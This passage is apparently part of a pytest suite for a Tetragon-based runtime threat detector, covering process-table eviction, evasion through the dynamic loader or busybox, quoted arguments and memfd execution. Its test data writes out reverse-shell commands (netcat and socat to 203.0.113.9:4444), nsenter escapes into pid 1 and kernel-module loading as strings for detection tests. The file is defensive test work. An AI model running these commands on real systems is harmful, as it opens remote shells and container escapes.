    cc = at(exec_event("/bin/sh", "-c cc"), 41_001, "Y2M=", parent=make_parent)
    assert not rule_ids(engine, cc)


def test_exits_free_the_tables() -> None:
    engine = Engine(load_rules(), anomaly=AnomalyConfig(enabled=False))
    for n in range(1000):
        pid, exec_id = 20_000 + n, f"c2hvcnQ{n}"
        for event in (*connected(pid, exec_id), at(close(3), pid, exec_id)):
            engine.feed(line(event))
        engine.feed(line(exit_event(PY, pid, exec_id)))
    assert engine.stats()["fd_tables"] == 0


# --- local sessions: pushing the session's processes out of the process table -------------


def _local_exec(binary: str, arguments: str, pid: int, exec_id: str, parent: tuple[int, str]):  # type: ignore[no-untyped-def]
    event = exec_event(binary, arguments, pod=False)
    return at(event, pid, exec_id, parent=(parent[0], parent[1], "/bin/bash"))


def test_exec_flood_does_not_detach_a_local_session_broke() -> None:
    """BROKE: the process table dropped its oldest entries once full, live or not. In a local
    session (no Pod: the session is its shell's pid and every descendant), a user forks a flood
    of short-lived processes from one subshell while another waits; the waiting subshell's
    entry goes, and its nsenter, tied to no session, matched no rule (they need a session)."""
    sessions = LocalSessions()
    engine = Engine(
        load_rules(), sessions=sessions, anomaly=AnomalyConfig(enabled=False), max_processes=64
    )
    sessions.register(100, SessionInfo("ws-alice", "alice", "s-local"))
    shell = ("c2hlbGw=", 100)
    engine.feed(line(_local_exec("/bin/bash", "-l", 100, shell[0], (99, "c3NoZA=="))))
    engine.feed(line(_local_exec("/bin/bash", "", 101, "d2FpdA==", (100, shell[0]))))
    engine.feed(line(_local_exec("/bin/bash", "", 102, "Zmxvb2Q=", (100, shell[0]))))
    for n in range(1000):  # each exits at once: never more than a few alive
        pid, exec_id = 1000 + n, f"dHJ1ZQ{n}"
        engine.feed(line(_local_exec("/bin/true", "", pid, exec_id, (102, "Zmxvb2Q="))))
        engine.feed(line(exit_event("/bin/true", pid, exec_id) | {}))
    alerts = engine.feed(
        line(_local_exec("/usr/bin/nsenter", "-t 1 -a sh", 3000, "bnNl", (101, "d2FpdA==")))
    )
    assert [(a.rule_id, a.session.session_id) for a in alerts] == [("nsenter-target", "s-local")]


# --- running a tool through the dynamic loader or a busybox applet -----------------------


@pytest.mark.parametrize(
    ("binary", "arguments", "rule"),
    [
        ("/lib64/ld-linux-x86-64.so.2", "/usr/bin/nsenter -t 1 -a sh", "nsenter-target"),
        (
            "/lib/ld-musl-x86_64.so.1",
            "--preload /x.so /usr/bin/nsenter -t1 -a sh",
            "nsenter-target",
        ),
        ("/lib64/ld-linux-x86-64.so.2", "--argv0 ls /sbin/insmod /tmp/r.ko", "kernel-module-tool"),
        ("/lib64/ld-linux-x86-64.so.2", "--inhibit-cache /usr/bin/unshare -r", "unshare-tool"),
        # the loader by its real file's name: Tetragon reports the resolved path, and on
        # Debian 11 /lib64/ld-linux-x86-64.so.2 links to ld-2.31.so
        ("/lib/x86_64-linux-gnu/ld-2.31.so", "/usr/bin/nsenter -t 1 -a sh", "nsenter-target"),
        (
            "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
            "/sbin/insmod /tmp/r.ko",
            "kernel-module-tool",
        ),
        ("/lib/ld-musl-armhf.so.1", "/usr/bin/unshare -r", "unshare-tool"),
        ("/bin/busybox", "unshare -r sh", "unshare-tool"),
        ("/bin/busybox", "nc 203.0.113.9 4444 -e /bin/sh", "reverse-shell-netcat"),
        ("/bin/busybox", "insmod /tmp/r.ko", "kernel-module-tool"),
    ],
)
def test_tool_run_through_the_loader_or_busybox_broke(
    engine_rules: Any, binary: str, arguments: str, rule: str
) -> None:
    """BROKE: rules key on the exec'd binary; ``ld.so /usr/bin/nsenter -t 1`` is an exec of
    the loader (only payloads in writable places were looked at) and ``busybox nc -e`` an
    exec of busybox (only its nsenter applet had a rule). The tool the loader or busybox
    runs is matched as if it had been exec'd."""
    assert rule in rule_ids(fresh(engine_rules), exec_event(binary, arguments))


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/lib64/ld-linux-x86-64.so.2", "--list /usr/bin/nsenter"),
        ("/lib64/ld-linux-x86-64.so.2", "/usr/bin/ls -t /tmp"),
        ("/bin/busybox", "ls -t /tmp"),
        ("/bin/busybox", "nc -l -p 8080"),
        ("/bin/busybox", "--help"),
    ],
)
def test_benign_loader_and_busybox_runs_stay_silent(
    engine_rules: Any, binary: str, arguments: str
) -> None:
    assert not rule_ids(fresh(engine_rules), exec_event(binary, arguments))


# --- argv games: Tetragon quotes an argument that holds a space ---------------------------


@pytest.mark.parametrize(
    ("binary", "arguments", "rule"),
    [
        # nsenter "-at 1" sh: getopt reads -a, then -t with " 1"; Tetragon writes "-at 1"
        ("/usr/bin/nsenter", '"-at 1" sh', "nsenter-target"),
        ("/usr/bin/nc", '"-e /bin/sh" 203.0.113.9 4444', "reverse-shell-netcat"),
        ("/usr/bin/socat", '"EXEC:/bin/sh -i" TCP:203.0.113.9:4444', "reverse-shell-netcat"),
        # a lone quote in one argument must not hide the next ones: nsenter '"x' -at1 '"y' sh
        ("/usr/bin/nsenter", '"x -at1 "y sh', "nsenter-target"),
    ],
)
def test_quoted_arguments_broke(engine_rules: Any, binary: str, arguments: str, rule: str) -> None:
    """BROKE: the arguments were split on spaces, so a quoted argument came apart (``"-at``,
    ``1"``) and matched no glob."""
    assert rule in rule_ids(fresh(engine_rules), exec_event(binary, arguments))


def test_quoted_argument_of_a_benign_command_stays_silent(engine_rules: Any) -> None:
    event = exec_event("/usr/bin/nc", '-z "example.org" 443')
    assert not rule_ids(fresh(engine_rules), event)


# --- fileless execution: what the kernel names an execveat(fd, "", AT_EMPTY_PATH) ---------


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/dev/fd/3", ""),  # glibc fexecve(memfd): execveat(AT_EMPTY_PATH) -> "/dev/fd/3"
        ("/dev/fd/4", "-c id"),
        ("/lib64/ld-linux-x86-64.so.2", "/dev/fd/3"),
    ],
)
def test_fexecve_of_a_memfd_broke(engine_rules: Any, binary: str, arguments: str) -> None:
    """BROKE: the kernel names the exec of ``execveat(fd, "", AT_EMPTY_PATH)`` (what glibc's
    ``fexecve`` and Python's ``os.execve(fd, ...)`` do) ``/dev/fd/N``, and Tetragon reports
    the name the kernel gives; the rule knew ``/memfd:*`` and ``/proc/*/fd/*`` only."""
    assert "memfd-exec" in rule_ids(fresh(engine_rules), exec_event(binary, arguments))


def test_execs_waiting_on_sockets_that_never_connect_stay_bounded() -> None:
    """Execs of programs on an unconnected socket wait for its connect, whole events kept: a
    flood of them (never connected) keeps at most a bounded number."""
    engine = Engine(load_rules(), anomaly=AnomalyConfig(enabled=False))
    for n in range(3000):
        pid, exec_id = 42_000 + n, f"d2FpdA{n}"
        for event in (at(socket_event(3), pid, exec_id), at(dup(3, 0), pid, exec_id)):
            engine.feed(line(event))
        for k in range(10):
            shell = at(exec_event("/bin/sh"), pid, f"{exec_id}{k}")
            engine.feed(line(shell))
    waiting = [sock for sock in engine._waiting]
    assert len(waiting) <= 1024
    assert all(len(sock.waiting or ()) <= 8 for sock in waiting)
